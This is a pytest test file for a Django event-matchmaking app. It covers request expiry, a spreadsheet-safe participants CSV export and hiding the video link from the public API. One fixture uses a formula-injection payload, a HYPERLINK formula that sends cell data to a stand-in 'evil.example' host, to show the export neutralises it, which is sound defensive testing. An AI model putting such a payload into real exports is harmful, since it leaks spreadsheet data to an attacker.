"""An expired answer is stored, the participants CSV is spreadsheet-safe, the public API
keeps the video link to itself."""

import csv
import io
from datetime import timedelta

import pytest
from django.contrib.messages import get_messages
from django.core.exceptions import ValidationError
from django.test import Client
from django.utils import timezone
from rest_framework.test import APIClient

from clusterbridge.events.models import Meeting, MeetingRequest
from clusterbridge.events.services import matchmaking
from tests.events.factories import EventFactory, RegistrationFactory, add_slots, add_tables
from tests.factories import PASSWORD, MembershipFactory

EXPIRED = "This request expired on the date the organiser set."


@pytest.mark.django_db
def test_answer_after_the_expiry_date_is_stored_as_expired():
    event = EventFactory(request_expiry=timezone.now() - timedelta(hours=1))
    a, b = RegistrationFactory(event=event), RegistrationFactory(event=event)
    req = MeetingRequest.objects.create(event=event, sender=a, recipient=b, message="Hi")
    with pytest.raises(ValidationError) as caught:
        matchmaking.answer_request(request=req, actor=b.user, accept=True)
    assert caught.value.messages == [EXPIRED]
    req.refresh_from_db()
    assert req.status == "expired"
    assert req.answered_at is None
    assert not Meeting.objects.exists()
    # Answering again says so instead of expiring twice.
    with pytest.raises(ValidationError) as caught:
        matchmaking.answer_request(request=req, actor=b.user, accept=True)
    assert caught.value.messages == ["This request is already expired."]


@pytest.mark.django_db
def test_answer_after_the_expiry_date_through_the_url(client):
    event = EventFactory(request_expiry=timezone.now() - timedelta(hours=1))
    a, b = RegistrationFactory(event=event), RegistrationFactory(event=event)
    req = MeetingRequest.objects.create(event=event, sender=a, recipient=b)
    client.login(email=b.user.email, password=PASSWORD)
    response = client.post(f"/events/{event.slug}/requests/{req.pk}/", {"answer": "accept"})
    assert response.status_code == 302
    assert response["Location"] == f"/events/{event.slug}/requests/"
    assert [str(m) for m in get_messages(response.wsgi_request)] == [EXPIRED]
    req.refresh_from_db()
    assert req.status == "expired"
    assert not Meeting.objects.exists()


@pytest.mark.django_db
def test_participants_csv_neutralises_formulas(client):
    m = MembershipFactory()
    event = EventFactory(organiser=m.organisation, questions=["=Why?"])
    RegistrationFactory(
        event=event, user__name='=HYPERLINK("http://evil.example/?x="&A1,"Click")',
        organisation__name="+Org", answers={"=Why?": "-1+2"},
    )  # fmt: skip
    client.login(email=m.user.email, password=PASSWORD)
    text = client.get(f"/events/{event.slug}/manage/participants.csv").content.decode()
    header, row = list(csv.reader(io.StringIO(text)))
    assert header[-1] == "'=Why?"
    assert row[0] == '\'=HYPERLINK("http://evil.example/?x="&A1,"Click")'
    assert row[2] == "'+Org"
    assert row[-1] == "'-1+2"
    assert row[4:6] == ["admitted", "onsite"]


@pytest.mark.django_db
def test_participants_csv_keeps_a_question_worded_like_a_column(client):
    m = MembershipFactory()
    event = EventFactory(organiser=m.organisation, questions=["name", "email"])
    RegistrationFactory(
        event=event, user__name="Ana Novak", user__email="ana@example.org",
        answers={"name": "Project X", "email": "yes"},
    )  # fmt: skip
    client.login(email=m.user.email, password=PASSWORD)
    text = client.get(f"/events/{event.slug}/manage/participants.csv").content.decode()
    header, row = list(csv.reader(io.StringIO(text)))
    assert header == ["name", "email", "organisation", "country", "status", "attendance",
                      "registered", "name", "email"]  # fmt: skip
    assert row[:2] == ["Ana Novak", "ana@example.org"]
    assert row[-2:] == ["Project X", "yes"]


@pytest.mark.django_db
def test_public_event_api_has_no_video_link_only_the_agenda_has():
    event = EventFactory(
        format="hybrid", online_url="https://video.example.org/secret-room",
        agenda_published_at=timezone.now(),
    )  # fmt: skip
    a, b = RegistrationFactory(event=event, attendance="online"), RegistrationFactory(event=event)
    req = matchmaking.send_request(sender=a, recipient=b, actor=a.user)
    matchmaking.answer_request(request=req, actor=b.user, accept=True)
    (slot,) = add_slots(event, 1, online=True)
    add_tables(event, 1)
    meeting = Meeting.objects.get(request=req)
    Meeting.objects.filter(pk=meeting.pk).update(status="scheduled", slot=slot, communicated=True)
    link = f"https://video.example.org/secret-room/meeting-{meeting.pk}"

    client = APIClient()
    detail = client.get(f"/api/v1/events/{event.slug}/")
    assert detail.status_code == 200
    assert "online_url" not in detail.json()
    assert "video.example.org" not in detail.content.decode()
    listing = client.get("/api/v1/events/").content.decode()
    assert "video.example.org" not in listing

    client.force_authenticate(a.user)
    assert "online_url" not in client.get(f"/api/v1/events/{event.slug}/").json()
    assert [m["video_link"] for m in client.get(f"/api/v1/me/agenda/{event.slug}/").json()] == [
        link
    ]
    # The same in the web agenda of the admitted participant …
    web = Client()
    web.login(email=b.user.email, password=PASSWORD)
    assert (
        f'<a href="{link}">Video link</a>'
        in web.get(f"/events/{event.slug}/agenda/").content.decode()
    )
    # … and nobody else: not a registrant who is not admitted, not the event page.
    pending = RegistrationFactory(event=event, status="pending")
    client.force_authenticate(pending.user)
    assert client.get(f"/api/v1/me/agenda/{event.slug}/").status_code == 404
    web.logout()
    web.login(email=pending.user.email, password=PASSWORD)
    assert web.get(f"/events/{event.slug}/agenda/").status_code == 404
    assert "video.example.org" not in web.get(f"/events/{event.slug}/").content.decode()
